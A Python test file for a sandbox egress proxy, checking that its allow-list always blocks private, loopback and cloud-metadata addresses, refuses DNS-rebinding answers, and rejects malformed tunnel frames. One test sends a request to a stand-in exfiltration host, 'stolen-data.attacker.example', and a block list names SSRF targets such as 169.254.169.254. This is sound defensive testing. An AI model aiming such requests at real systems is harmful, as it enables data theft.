"""Sandbox egress at the policy layer: the allow-list, the ranges that stay blocked whatever it
says, and the proxy's decisions and rewriting, with no packet sent anywhere but loopback (a
blocked address is refused before any connection; an allowed one is handed to a connector that
the test controls). The tunnel's flow control and its defence against a hostile peer, too."""

from __future__ import annotations

import asyncio
import ipaddress
import socket
from collections.abc import AsyncIterator
from typing import Any

import pytest
from pydantic import ValidationError

from warden.config import SandboxNetworkConfig
from warden.netpolicy import EgressPolicy, EgressRuleError, IPAddress, parse_entry
from warden.sandbox import egress
from warden.sandbox.egress import EgressDecision, EgressProxy
from warden.sandbox.guest.tunnel import DATA, HEADER, OPEN, WINDOW, Channel, Tunnel, TunnelError

EVERYTHING = EgressPolicy.from_config(["0.0.0.0/0", "::/0"], ports=range(1, 65536))

BLOCKED = [
    "10.1.2.3", "172.16.0.1", "172.31.255.254", "192.168.1.1", "127.0.0.1", "127.8.9.10",
    "169.254.169.254", "100.100.100.200", "0.0.0.0", "224.0.0.1", "255.255.255.255",
    "::1", "::", "fe80::1", "fd00:ec2::254", "fc00::5",
    "::ffff:127.0.0.1", "::ffff:169.254.169.254", "::ffff:10.0.0.1",  # IPv4-mapped
    "64:ff9b::a9fe:a9fe",  # NAT64 of 169.254.169.254
    "2002:7f00:1::",  # 6to4 of 127.0.0.1
]  # fmt: skip


@pytest.mark.parametrize("address", BLOCKED)
def test_private_loopback_link_local_and_metadata_stay_blocked_even_when_everything_is_allowed(
    address: str,
) -> None:
    verdict = EVERYTHING.check_address(ipaddress.ip_address(address))
    assert not verdict.allowed
    assert "always blocked" in verdict.reason


@pytest.mark.parametrize("address", BLOCKED)
def test_a_blocked_address_stays_blocked_when_an_allowed_name_resolves_to_it(address: str) -> None:
    policy = EgressPolicy.from_config(["api.example.com"])
    assert not policy.check_address(ipaddress.ip_address(address), via_name="api.example.com").allowed


def test_addresses_in_an_allowed_network_pass_and_others_do_not() -> None:
    policy = EgressPolicy.from_config(["203.0.113.0/24", "2001:db8::/32"])
    assert policy.check_address(ipaddress.ip_address("203.0.113.7")).allowed
    assert policy.check_address(ipaddress.ip_address("2001:db8::1")).allowed
    denied = policy.check_address(ipaddress.ip_address("198.51.100.1"))
    assert not denied.allowed and denied.rule == "default-deny"


@pytest.mark.parametrize(
    ("name", "allowed"),
    [
        ("pypi.org", True),
        ("PyPI.org.", True),
        ("files.pythonhosted.org", True),
        ("a.b.pythonhosted.org", True),
        ("pythonhosted.org", False),  # *.x is below x, not x itself
        ("evilpythonhosted.org", False),
        ("pypi.org.evil.com", False),
        ("example.com", False),
    ],
)
def test_domain_patterns(name: str, allowed: bool) -> None:
    policy = EgressPolicy.from_config(["pypi.org", "*.pythonhosted.org"])
    assert policy.check_name(name).allowed is allowed


@pytest.mark.parametrize(
    "entry", ["10.0.0", "http://pypi.org", "*", "exa mple.com", "", "pypi.org:443", "1.2.3.4/40"]
)
def test_bad_allow_list_entries_are_rejected(entry: str) -> None:
    with pytest.raises(EgressRuleError):
        parse_entry(entry)


def test_the_template_config_validates_its_rules() -> None:
    with pytest.raises(ValidationError, match="not a CIDR"):
        SandboxNetworkConfig(egress=True, allow=["http://pypi.org"])
    with pytest.raises(ValidationError, match="between 1 and 65535"):
        SandboxNetworkConfig(egress=True, allow=["pypi.org"], ports=[0])
    with pytest.raises(ValidationError, match="hosts"):
        SandboxNetworkConfig(egress=True, hosts={"x.test": ["not-an-address"]})
    assert SandboxNetworkConfig(egress=True, allow=["pypi.org", "203.0.113.0/24"]).allow


def test_ports_outside_the_list_are_denied() -> None:
    policy = EgressPolicy.from_config(["203.0.113.0/24"])
    denial = policy.check_port(22)
    assert denial is not None and "port 22" in denial.reason
    assert policy.check_port(443) is None


# -- the proxy, through a real tunnel over a socket pair --------------------------------------


class Recorder:
    def __init__(self, answers: dict[str, list[str]] | None = None) -> None:
        self.answers = answers or {}
        self.lookups: list[str] = []
        self.decisions: list[EgressDecision] = []

    async def resolve(self, host: str, port: int) -> list[IPAddress]:
        self.lookups.append(host)
        return [ipaddress.ip_address(a) for a in self.answers.get(host, [])]


@pytest.fixture
async def tunnel_pair() -> AsyncIterator[Any]:
    """Yields a function (policy, recorder) -> the guest's end of a tunnel whose host end serves
    an `EgressProxy`."""
    tasks: list[asyncio.Task[None]] = []
    tunnels: list[Tunnel] = []

    async def make(policy: EgressPolicy, recorder: Recorder) -> Tunnel:
        host_sock, guest_sock = socket.socketpair()
        proxy = EgressProxy(
            policy, "sbx-test", resolver=recorder.resolve, on_decision=recorder.decisions.append
        )
        host = Tunnel(*await asyncio.open_connection(sock=host_sock), accept=proxy.serve)
        guest = Tunnel(*await asyncio.open_connection(sock=guest_sock))
        tunnels.extend([host, guest])
        tasks.extend([asyncio.create_task(host.run()), asyncio.create_task(guest.run())])
        return guest

    yield make
    for t in tunnels:
        await t.aclose()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


async def _exchange(channel: Channel, request: bytes) -> bytes:
    await channel.write(request)
    answer = b""
    async with asyncio.timeout(10):
        while chunk := await channel.read():
            answer += chunk
    return answer


async def test_connect_to_a_blocked_address_is_refused_with_the_reason(tunnel_pair: Any) -> None:
    recorder = Recorder()
    guest = await tunnel_pair(EVERYTHING, recorder)
    answer = await _exchange(guest.open(), b"CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: x\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 403 ")
    assert b"always blocked" in answer and b"169.254.0.0/16" in answer
    assert [d.verdict.allowed for d in recorder.decisions] == [False]


async def test_a_name_outside_the_allow_list_is_never_looked_up(tunnel_pair: Any) -> None:
    """A denied name must not reach DNS: a lookup of `<secret>.attacker.example` would carry the
    secret out through the resolver."""
    recorder = Recorder({"stolen-data.attacker.example": ["203.0.113.9"]})
    guest = await tunnel_pair(EgressPolicy.from_config(["pypi.org"]), recorder)
    answer = await _exchange(
        guest.open(),
        b"CONNECT stolen-data.attacker.example:443 HTTP/1.1\r\nHost: stolen-data.attacker.example\r\n\r\n",
    )
    assert answer.startswith(b"HTTP/1.1 403 ")
    assert recorder.lookups == []


async def test_an_allowed_name_that_resolves_to_a_private_address_is_refused(tunnel_pair: Any) -> None:
    recorder = Recorder({"rebind.example.com": ["127.0.0.1", "10.0.0.8"]})
    guest = await tunnel_pair(EgressPolicy.from_config(["*.example.com"]), recorder)
    answer = await _exchange(
        guest.open(), b"GET http://rebind.example.com/ HTTP/1.1\r\nHost: rebind.example.com\r\n\r\n"
    )
    assert answer.startswith(b"HTTP/1.1 403 ") and b"always blocked" in answer
    assert recorder.lookups == ["rebind.example.com"]


@pytest.mark.parametrize(
    "request_line",
    [
        b"GET / HTTP/1.1\r\nHost: 203.0.113.5\r\n\r\n",  # origin form: not a proxy request
        b"GET https://203.0.113.5/ HTTP/1.1\r\nHost: 203.0.113.5\r\n\r\n",  # https must use CONNECT
        b"CONNECT 203.0.113.5 HTTP/1.1\r\nHost: 203.0.113.5\r\n\r\n",  # no port
        b"CONNECT 203.0.113.5:99999 HTTP/1.1\r\nHost: 203.0.113.5\r\n\r\n",
        b"\x16\x03\x01\x02\x00garbage\r\n\r\n",  # TLS straight at the proxy
    ],
)
async def test_requests_that_are_not_proxy_requests_get_400(tunnel_pair: Any, request_line: bytes) -> None:
    guest = await tunnel_pair(EgressPolicy.from_config(["203.0.113.0/24"], ports=[443]), Recorder())
    answer = await _exchange(guest.open(), request_line)
    assert answer.startswith(b"HTTP/1.1 400 "), answer


async def test_an_allowed_request_goes_to_the_checked_address_in_origin_form(
    tunnel_pair: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The decision is for 203.0.113.5 (never contacted: the connector hands the bytes to a
    loopback server instead) and the upstream sees origin form, no proxy credentials, one
    request per connection."""
    received: list[bytes] = []

    async def upstream(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        received.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(upstream, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    contacted: list[tuple[str, int]] = []

    async def connector(
        address: IPAddress, dest_port: int
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        contacted.append((str(address), dest_port))
        return await asyncio.open_connection("127.0.0.1", port)

    monkeypatch.setattr(egress, "_connect", connector)
    recorder = Recorder({"files.example.com": ["203.0.113.5"]})
    guest = await tunnel_pair(EgressPolicy.from_config(["files.example.com"]), recorder)
    async with server:
        answer = await _exchange(
            guest.open(),
            b"GET http://files.example.com/a/b?x=1 HTTP/1.1\r\nHost: files.example.com\r\n"
            b"Proxy-Authorization: Basic c2VjcmV0\r\nProxy-Connection: keep-alive\r\nAccept: */*\r\n\r\n",
        )
    assert answer.endswith(b"hello")
    assert contacted == [("203.0.113.5", 80)]
    head = received[0].decode()
    assert head.startswith("GET /a/b?x=1 HTTP/1.1\r\n")
    assert "Host: files.example.com" in head and "Accept: */*" in head
    assert "Proxy-" not in head and "Connection: close" in head


# -- the tunnel itself --------------------------------------------------------------------------


async def test_the_tunnel_carries_more_than_its_window_in_both_directions() -> None:
    host_sock, guest_sock = socket.socketpair()
    payload = bytes(range(256)) * (4 * WINDOW // 256)

    async def echo(channel: Channel) -> None:
        while data := await channel.read():
            await channel.write(data)
        channel.write_eof()

    host = Tunnel(*await asyncio.open_connection(sock=host_sock), accept=echo)
    guest = Tunnel(*await asyncio.open_connection(sock=guest_sock))
    runners = [asyncio.create_task(host.run()), asyncio.create_task(guest.run())]
    try:
        channel = guest.open()

        async def send() -> None:
            await channel.write(payload)
            channel.write_eof()

        sender = asyncio.create_task(send())
        echoed = bytearray()
        async with asyncio.timeout(20):
            while chunk := await channel.read():
                echoed += chunk
        await sender
        assert bytes(echoed) == payload
    finally:
        await guest.aclose()
        await host.aclose()
        await asyncio.gather(*runners, return_exceptions=True)


@pytest.mark.parametrize(
    "frames",
    [
        [HEADER.pack(7, OPEN, 0), HEADER.pack(7, DATA, 70_000) + b"x" * 70_000],  # frame too large
        [HEADER.pack(7, OPEN, 0)] + [HEADER.pack(7, DATA, 65_536) + b"x" * 65_536] * 5,  # window overrun
        [HEADER.pack(0, OPEN, 0)],  # channel 0 does not exist
    ],
)
async def test_a_peer_that_breaks_the_protocol_loses_the_tunnel(frames: list[bytes]) -> None:
    host_sock, guest_sock = socket.socketpair()
    gate = asyncio.Event()  # the handler never reads, so data piles up against the window

    async def stall(channel: Channel) -> None:
        await gate.wait()

    host = Tunnel(*await asyncio.open_connection(sock=host_sock), accept=stall)
    _, writer = await asyncio.open_connection(sock=guest_sock)
    for frame in frames:
        writer.write(frame)
    await writer.drain()
    with pytest.raises(TunnelError):
        async with asyncio.timeout(10):
            await host.run()
    assert host.closed and host.channel_count == 0
    writer.close()
